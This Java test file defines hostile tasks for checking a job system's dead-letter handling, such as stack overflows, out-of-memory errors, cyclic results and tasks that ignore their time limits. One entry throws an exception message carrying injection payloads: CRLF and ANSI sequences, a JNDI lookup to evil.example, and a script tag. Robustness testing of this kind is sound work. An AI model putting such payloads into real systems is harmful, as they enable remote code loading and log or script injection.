package io.skirret.systemtests.badinput;

import java.util.ArrayList;
import java.util.List;

/** What a hostile task does, and the reason code its dead letter has to have. */
enum Deed {
    THROWS_AN_ERROR("retries-exhausted") {
        @Override
        Object act() {
            throw new Error("plain");
        }
    },
    OVERFLOWS_ITS_STACK("failure-not-retryable") {
        @Override
        Object act() {
            return deeper(0);
        }
    },
    RUNS_OUT_OF_MEMORY("retries-exhausted") {
        @Override
        Object act() {
            throw new OutOfMemoryError("Java heap space");
        }
    },
    DIES_AS_A_THREAD("retries-exhausted") {
        @Override
        @SuppressWarnings({"removal", "deprecation"})
        Object act() {
            throw new ThreadDeath();
        }
    },
    HAS_A_MESSAGE_THAT_THROWS("retries-exhausted") {
        @Override
        Object act() {
            throw new RuntimeException() {
                @Override
                public String getMessage() {
                    throw new IllegalStateException("no message for you");
                }
            };
        }
    },
    HAS_FIFTY_MEGABYTES_OF_MESSAGE("retries-exhausted") {
        @Override
        Object act() {
            throw new IllegalStateException("x".repeat(50_000_000));
        }
    },
    HAS_A_CYCLIC_CAUSE("retries-exhausted") {
        @Override
        Object act() {
            IllegalStateException first = new IllegalStateException("a");
            first.initCause(new IllegalStateException("b", first));
            throw first;
        }
    },
    INJECTS_LINES("retries-exhausted") {
        @Override
        Object act() {
            throw new IllegalStateException("a\r\nINJECTED \u001b[31m \u202e ${jndi:ldap://evil.example/x} <script>");
        }
    },
    INTERRUPTS_ITSELF("retries-exhausted") {
        @Override
        Object act() {
            Thread.currentThread().interrupt();
            throw new IllegalStateException("interrupted myself");
        }
    },
    RETURNS_A_CYCLE("result-not-serialisable") {
        @Override
        Object act() {
            List<Object> cycle = new ArrayList<>();
            cycle.add(cycle);
            return cycle;
        }
    },
    RETURNS_TOO_MUCH("result-not-serialisable") {
        @Override
        Object act() {
            return "x".repeat(6_000_000);
        }
    },
    IGNORES_ITS_TIME_LIMIT("retries-exhausted") {
        @Override
        Object act() {
            while (true) {
                try {
                    java.util.concurrent.TimeUnit.MINUTES.sleep(1);
                } catch (InterruptedException ignored) {
                    // which is the deed
                }
            }
        }
    };

    final String reason;

    Deed(String reason) {
        this.reason = reason;
    }

    abstract Object act() throws Exception;

    @SuppressWarnings("InfiniteRecursion") // which is the deed
    private static int deeper(int depth) {
        return deeper(depth + 1) + 1;
    }
}
